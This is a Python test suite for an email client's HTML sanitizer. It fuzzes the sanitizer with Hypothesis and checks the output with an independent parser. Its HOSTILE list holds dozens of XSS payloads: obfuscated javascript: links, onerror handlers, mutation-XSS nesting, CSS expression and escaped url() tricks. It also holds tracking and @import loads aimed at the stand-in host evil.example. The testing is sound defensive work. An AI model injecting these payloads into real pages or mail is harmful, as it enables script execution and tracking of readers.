"""The HTML sanitizer against the whole hostile class, not just a few examples.

Every output is read back with an independent parser (html.parser) and
checked against the rules: allowed tags and attributes only, no event
handler, links http(s)/mailto only, images data:/our inline ones only (or
http(s) once allowed), CSS without script, import or remote URL. Hypothesis
shuffles, nests and obfuscates the known tricks to look for combinations.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from nmail.web.css_scrub import UrlPolicy, scrub_css
from nmail.web.message_html import _ATTRIBUTES, _TAGS, frame_csp, frame_document, sanitize_html

EVIL = "evil.example"

HOSTILE = [
    "<script>parent.document.title='pwned'</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"http://evil.example/track.gif\" width=1 height=1>",
    "<img srcset=\"http://evil.example/a.png 1x, http://evil.example/b.png 2x\">",
    "<img src=\"//evil.example/p.png\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<a href=\"javascript:alert(1)\">j</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">j</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">j</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">j</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">j</a>",
    "<a href=\" javascript:alert(1)\">j</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><image href=\"http://evil.example/s.png\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<math href=\"javascript:alert(1)\">m</math>",
    "<base href=\"http://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<link rel=stylesheet href=\"http://evil.example/s.css\">",
    "<form action=\"http://evil.example/\"><input name=p><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">b</button>",
    "<iframe src=\"http://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"http://evil.example/o\"></object><embed src=\"http://evil.example/e\">",
    "<video poster=\"http://evil.example/p.png\"><source src=\"http://evil.example/v\"></video>",
    "<audio src=\"http://evil.example/a.mp3\"></audio>",
    "<table background=\"http://evil.example/t.png\"><tr><td>t</td></tr></table>",
    "<p style=\"width:expression(alert(1))\">e</p>",
    "<p style=\"background:url(http://evil.example/u.png)\">u</p>",
    "<p style=\"background:url('http://evil.example/q.png')\">q</p>",
    "<p style=\"background:u\\72l(http://evil.example/esc.png)\">esc</p>",
    "<p style=\"background:u/**/rl(http://evil.example/c.png)\">c</p>",
    "<p style=\"background-image:image-set('http://evil.example/i.png' 1x)\">i</p>",
    "<p style=\"behavior:url(x.htc);-moz-binding:url(http://evil.example/b.xml#x)\">b</p>",
    "<style>@import url(http://evil.example/i.css);</style>",
    "<style>@import 'http://evil.example/j.css';</style>",
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    "<style title=t media=all class=c>body{background:url(http://evil.example/at.png)}</style>",
    "<style\nid=x>@import 'http://evil.example/nl.css';</style>",
    "<STYLE TYPE=text/css>p{background:url(//evil.example/up.png)}</STYLE>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>",
    "<style>p{background:\\75\\72\\6c(http://evil.example/hex.png)}</style>",
    "<style></style><img src=x onerror=alert(1)>",
    "<style><</style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<a href=\"http://ok.example/\" onclick=\"alert(1)\">ok</a>",
    "<details open ontoggle=alert(1)>d</details>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<div style=\"position:fixed;top:0\" id=\"x\" class=\"y\">f</div>",
    "<a href=\"http://evil.example/ok\">a plain link is fine</a>",
]

BENIGN = ["hello", "<p>para</p>", "<b>bold</b>", "<table><tr><td>cell</td></tr></table>",
          "<div>", "</div>", "<span>", "</span>", "<ul><li>x</li></ul>", "&amp;", "<br>",
          "한국어 본문", "<font color=red>c</font>", "<blockquote>q</blockquote>"]


class _Check(HTMLParser):
    """Collects every violation of the rules in a sanitized document."""

    def __init__(self, allow_remote: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_remote = allow_remote
        self.problems: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.problems.append(f"tag {tag}")
        allowed = set(_ATTRIBUTES["*"]) | set(_ATTRIBUTES.get(tag, set())) | {"rel", "target"}
        for name, value in attrs:
            value = value or ""
            if name not in allowed or name.startswith("on"):
                self.problems.append(f"attribute {name} on {tag}")
            if name == "href" and not re.match(r"(?i)(https?:|mailto:)", value):
                self.problems.append(f"href {value}")
            if name == "src":
                ok = value.startswith("data:image/") and "svg" not in value[:20]
                ok = ok or (self.allow_remote and re.match(r"(?i)https?://", value) is not None)
                if not ok:
                    self.problems.append(f"src {value}")
            if name == "style":
                self._css(value)
            if not self.allow_remote and EVIL in value and name not in ("href", "title", "alt"):
                # The host may appear in a link (a click, not a load) or as text.
                self.problems.append(f"remote host in {name}")
            if name == "target" and value != "_blank":
                self.problems.append(f"target {value}")
        self.in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style:
            self._css(data)

    def _css(self, css: str) -> None:
        lowered = css.lower()
        for bad in ("expression(", "@import", "javascript:", "vbscript:", "behavior",
                    "-moz-binding", "\\"):
            if bad in lowered:
                self.problems.append(f"css {bad}")
        if not self.allow_remote and "url(" in lowered:
            self.problems.append("css url(")


def problems(markup: str, *, allow_remote: bool = False) -> list[str]:
    checker = _Check(allow_remote)
    checker.feed(markup)
    checker.close()
    return checker.problems


def test_each_known_trick_is_neutralised() -> None:
    for trick in HOSTILE:
        result = sanitize_html(trick, allow_remote=False)
        assert problems(result.html) == [], (trick, result.html)
        inside_tags = "".join(re.findall(r"<[^>]*>", result.html))
        assert "alert" not in inside_tags, (trick, result.html)


def test_remote_content_is_counted_and_kept_only_when_allowed() -> None:
    markup = ('<img src="http://evil.example/a.png"><p style="background:url('
              'https://evil.example/b.png)">x</p>')
    blocked = sanitize_html(markup, allow_remote=False)
    assert blocked.blocked_remote == 2
    assert EVIL not in blocked.html
    shown = sanitize_html(markup, allow_remote=True)
    assert shown.blocked_remote == 0
    assert 'src="http://evil.example/a.png"' in shown.html
    assert "url('https://evil.example/b.png')" in shown.html
    assert problems(shown.html, allow_remote=True) == []


def test_cid_images_become_data_urls_and_unknown_ones_vanish() -> None:
    inline = {"logo@x": ("image/png", b"\x89PNG\r\n"), "vec@x": ("image/svg+xml", b"<svg/>")}
    out = sanitize_html('<img src="cid:LOGO@x"><img src="cid:none@x"><img src="cid:vec@x">',
                        allow_remote=False, inline=inline).html
    assert out.count('src="data:image/png;base64,iVBORw0K"') == 1
    assert out.count("<img>") == 2  # unknown and SVG (never inline) lose their src


def test_plain_formatting_survives() -> None:
    markup = ('<table cellpadding="2"><tr><td style="color: red; font-weight: bold">'
              '<a href="https://example.com/a?b=1&amp;c=2">링크</a></td></tr></table>')
    out = sanitize_html(markup, allow_remote=False).html
    assert 'style="color: red; font-weight: bold"' in out
    assert 'href="https://example.com/a?b=1&amp;c=2"' in out
    assert 'target="_blank"' in out and "noopener" in out
    assert "링크" in out


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE + BENIGN), min_size=1, max_size=8),
       st.sampled_from(["", "<div>", "<table><tr><td>", "<svg>", "<math>", "<style>",
                        "<style title=x>", "<style class=a id=b>",
                        "<noscript>", "<p title=\"", "<!--", "<a href=\"", "<select>"]))
def test_combinations_stay_safe(pieces: list[str], wrapper: str) -> None:
    markup = wrapper + "".join(pieces)
    result = sanitize_html(markup, allow_remote=False)
    assert problems(result.html) == [], (markup, result.html)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>\"'=/ &#;:()\\abcdefghijklmnopqrstuvwxyz"
                                             "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789\t\n"))))
def test_arbitrary_markup_never_breaks_the_rules(markup: str) -> None:
    for wrapped in (markup, f"<a href=\"{markup}\">x</a>", f"<p style=\"{markup}\">x</p>",
                    f"<style>{markup}</style>", f"<img src=\"{markup}\">"):
        result = sanitize_html(wrapped, allow_remote=False)
        assert problems(result.html) == [], (wrapped, result.html)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["url", "image-set", "image", "expression", "@import", "javascript:"]),
       st.lists(st.sampled_from(["escape", "comment", "case", "newline-escape"]), max_size=3,
                unique=True))
def test_obfuscated_css_keywords_are_found(keyword: str, tricks: list[str]) -> None:
    word = keyword
    for trick in tricks:
        if trick == "escape":
            word = "".join(f"\\{ord(ch):x} " if ch.isalpha() and i % 2 else ch
                           for i, ch in enumerate(word))
        elif trick == "comment":
            word = word[:1] + "/**/" + word[1:]
        elif trick == "case":
            word = word.swapcase()
        else:
            word = word[:1] + "\\\n" + word[1:]
    css = f"p{{background:{word}(http://evil.example/x.png)}}"
    policy = UrlPolicy(allow_remote=False, inline=lambda cid: None)
    out = scrub_css(css, policy).lower()
    assert EVIL not in out or keyword in ("@import", "javascript:", "expression")
    for bad in ("url(", "expression(", "@import", "javascript:"):
        assert bad not in out, (css, out)


def test_frame_policy_allows_no_script_and_no_remote_until_asked() -> None:
    strict = frame_csp(allow_remote=False)
    assert "default-src 'none'" in strict
    assert "script-src" not in strict  # falls back to 'none'
    assert "img-src data:;" in strict
    assert "sandbox" in strict and "allow-scripts" not in strict and "allow-same-origin" \
        not in strict
    assert "http:" in frame_csp(allow_remote=True)


def test_frame_document_wraps_without_reinterpreting() -> None:
    body = sanitize_html("<p>안녕 &lt;script&gt;</p>", allow_remote=False).html
    doc = frame_document(body, lang="ko")
    assert doc.startswith("<!DOCTYPE html>") and 'lang="ko"' in doc
    assert "&lt;script&gt;" in doc
    assert '<meta name="referrer" content="no-referrer">' in doc
    assert 'onload="y"' not in frame_document("", lang='x" onload="y')
